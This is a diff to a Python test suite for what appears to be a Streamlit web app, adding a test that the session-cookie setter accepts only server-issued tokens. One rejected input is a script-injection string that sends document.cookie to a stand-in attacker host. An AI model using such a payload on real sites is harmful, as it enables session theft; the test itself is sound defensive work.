@@ -80,4 +80,17 @@ def test_no_page_or_glue_module_renders_raw_html():
     sources = [*ROOT.glob("pages/**/*.py"), *ROOT.glob("ui/**/*.py"), ROOT / "streamlit_app.py"]
     assert len(sources) > 10
     offenders = [str(p.relative_to(ROOT)) for p in sources if risky.search(p.read_text(encoding="utf-8"))]
-    assert offenders == []
+    assert offenders == ["ui/cookie.py"]  # the session cookie's setter, which writes server tokens only
+
+
+def test_the_cookie_setter_writes_nothing_but_a_server_token():
+    import pytest
+
+    from store.browser_sessions import new_browser_token
+    from ui.cookie import is_token, set_cookie
+
+    assert is_token(new_browser_token())
+    for hostile in ['x"; document.location="https://evil.example/?"+document.cookie; "', "<script>", "a b", ""]:
+        assert not is_token(hostile)
+        with pytest.raises(ValueError):
+            set_cookie(hostile)
